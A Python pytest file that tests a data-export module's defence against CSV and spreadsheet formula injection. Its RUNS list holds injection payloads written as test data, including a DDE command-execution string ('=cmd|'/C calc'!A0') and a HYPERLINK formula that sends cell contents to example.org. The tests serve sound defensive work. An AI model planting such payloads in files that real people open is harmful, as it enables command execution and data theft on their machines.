"""No cell of any file runs when a spreadsheet opens it, and nothing that is no formula is touched."""

import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import load_workbook

from exports import csv_file, file_name, write
from tests.exports.tables import about, patient, statements

GUIDE = Path(__file__).parents[2] / "docs" / "files.md"
RUNS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "\x00=1+1",
    "  =1+1",
    " \t@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=",
    "-",
    "'=1+1",
    "'' =1+1",
]
HARMLESS = [
    "a=b",
    "1-2",
    "'tis said",
    "mail@example.org",
    "2020-04-15",
    " a",
    "",
    "(=1)",
    "–1",
    "x\n=1+1",
    "''",
]


def written(text, raw=False):
    """The one cell of a CSV that holds this text."""
    table = pa.table({"text": [text]})
    file = write(table, about(table), "csv", raw=raw).decode("utf-8-sig")
    return next(iter(list(csv.reader(io.StringIO(file, newline="")))[1]), "")


@pytest.mark.parametrize("text", RUNS, ids=ascii)
def test_csv_puts_an_apostrophe_before_what_a_spreadsheet_would_run(text):
    assert written(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_csv_leaves_other_text_alone(text):
    assert written(text) == text


@patient
@given(st.sampled_from(" '\t\r\n=+-@＝＋－＠") | st.text(max_size=3), st.text(max_size=5))
def test_no_text_begins_a_csv_cell_so_that_it_runs(start, rest):
    assert not written(start + rest).lstrip(" ").startswith(tuple("\t\r\n\x00=+-@＝＋－＠"))


@patient
@given(st.text("'= \n-a", max_size=6), st.text("'= \n-a", max_size=6))
def test_no_two_texts_become_the_same_cell(one, other):
    assert (written(one) == written(other)) == (one == other)


@patient
@given(st.sampled_from(RUNS) | st.text(max_size=5))
def test_a_raw_csv_holds_every_text_as_it_is(text):
    assert written(text, raw=True) == text


@patient
@given(
    st.lists(
        st.none() | st.builds(str.__add__, st.sampled_from(["", *RUNS, *HARMLESS]), st.text(max_size=3)), max_size=4
    )
)
def test_the_look_at_first_bytes_finds_what_the_pattern_would(texts):
    column = pa.array(texts, pa.string())
    plainly = pc.replace_substring_regex(column, csv_file.FORMULA, r"'\1")
    assert csv_file.inert(column) == plainly
    assert csv_file.inert(pa.array(["fine", *texts], pa.string())[1:]) == plainly
    assert csv_file.inert(pa.chunked_array([column, column])) == pa.chunked_array([plainly, plainly])


def test_the_look_at_first_bytes_misses_no_character():
    every = [chr(code) for code in range(0x110000) if not 0xD800 <= code < 0xE000]
    for texts in (every, [f"'{character}" for character in every]):
        column = pa.array(texts, pa.string())
        runs = pc.match_substring_regex(column, csv_file.FORMULA)
        assert all(
            csv_file.inert(column.slice(at, 1))[0].as_py()[0] == "'" for at in pc.indices_nonzero(runs).to_pylist()
        )


@patient
@given(
    st.sampled_from(["", *RUNS, *HARMLESS]), st.text(max_size=3), st.sampled_from(["", "'", "\x0b", "\xa0", "\u2003"])
)
def test_the_pattern_that_the_guide_prints_gives_the_exact_text_back(start, rest, odd):
    [printed] = re.findall(r're\.sub\(r"(.*)", r"\\1", text\)', GUIDE.read_text(encoding="utf-8"))
    assert re.sub(printed, r"\1", written(odd + start + rest)) == odd + start + rest


def test_csv_escapes_joined_lists_names_of_columns_and_coded_text_too():
    table = pa.table(
        {
            "=name": ["x"],
            "items": [["=1", "b"]],
            "coded": pa.array(["@a"]).dictionary_encode(),
            "large": ["+1"],
        }
    )
    table = table.set_column(3, "large", table["large"].cast(pa.large_string()))
    file = write(table, about(table), "csv").decode("utf-8-sig")
    assert file == '"\'=name","items","coded","large"\r\n"x","\'=1|b","\'@a","\'+1"\r\n'


def test_csv_leaves_numbers_and_dates_as_they_are():
    table = pa.table({"n": [-2], "x": [-74.006], "day": [date(2020, 4, 15)]})
    assert write(table, about(table), "csv").endswith(b"\r\n-2,-74.006,2020-04-15\r\n")


def test_excel_holds_neither_formulas_nor_links():
    table = pa.table({"text": [*RUNS, "http://example.org", "mailto:a@example.org", "{=1+1}", "internal:About!A1"]})
    hostile = about(table, title="=1+1", filters=(("=1", "=2"),), url="http://example.org", citation="@x")
    with zipfile.ZipFile(io.BytesIO(write(table, hostile, "xlsx"))) as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert not [name for name in book.namelist() if "rels" in name and "sheet" in name]
    assert len(sheets) == 2
    assert not [sheet for sheet in sheets if b"<f" in sheet or b"<hyperlink" in sheet]


@pytest.mark.parametrize("raw", [False, True])
def test_json_and_parquet_hold_formulas_as_they_were_said(raw):
    table = pa.table({"text": RUNS})
    said = about(table)
    assert [row["text"] for row in json.loads(write(table, said, "json", raw=raw))["rows"]] == RUNS
    lines = write(table, said, "jsonl", raw=raw).decode().splitlines()
    assert [json.loads(line)["text"] for line in lines] == RUNS
    assert pq.read_table(io.BytesIO(write(table, said, "parquet", raw=raw)))["text"].to_pylist() == RUNS


@pytest.mark.parametrize("raw", [False, True])
def test_excel_holds_them_as_text_also_when_asked_for_raw(raw):
    table = pa.table({"id": ["x"] * len(RUNS), "text": RUNS})
    book = load_workbook(io.BytesIO(write(table, about(table), "xlsx", raw=raw)))
    assert [row[1] for row in book.get_sheet_by_name("Statements").to_python()[1:]] == RUNS


@pytest.mark.parametrize("raw", [False, True])
def test_geojson_holds_them_as_they_were_said(raw):
    table = pa.table({"actor_id": RUNS})
    features = json.loads(write(table, about(table), "geojson", raw=raw))["features"]
    assert [feature["properties"]["actor_id"] for feature in features] == RUNS


@pytest.mark.parametrize("raw", [False, True])
def test_the_zip_holds_the_csv_that_was_asked_for(raw):
    with zipfile.ZipFile(io.BytesIO(write(statements(), about(statements()), "csv.zip", raw=raw))) as archive:
        held = archive.read(file_name(about(statements()), "csv"))
    assert held == write(statements(), about(statements()), "csv", raw=raw)
    assert (b'"\'=HYPERLINK(0)"' in held) != raw
